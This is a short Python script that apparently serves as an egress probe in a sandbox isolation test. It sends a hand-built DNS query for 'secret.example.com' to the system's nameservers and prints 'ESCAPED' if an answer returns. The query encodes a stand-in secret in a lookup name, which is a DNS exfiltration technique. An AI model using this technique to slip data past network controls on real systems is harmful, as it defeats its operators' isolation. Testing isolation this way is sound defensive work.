# attack: tells what it knows by a name that it asks for (DNS), and by a datagram
# family: sockets
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
print("REACHED", s)
s.settimeout(2)
question = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + b"\x06secret\x07example\x03com\x00" + b"\x00\x01\x00\x01"
try:
    with open("/etc/resolv.conf") as f:
        servers = [line.split()[1] for line in f if line.startswith("nameserver")]
except OSError:
    servers = []
for server in [*servers, "127.0.0.53", "127.0.0.11"]:
    try:
        s.sendto(question, (server, 53))
        print("ESCAPED answer of", s.recvfrom(512)[1])
    except OSError as error:
        print(server, error)
print("ESCAPED resolved", socket.getaddrinfo("example.com", 80)[0][4])
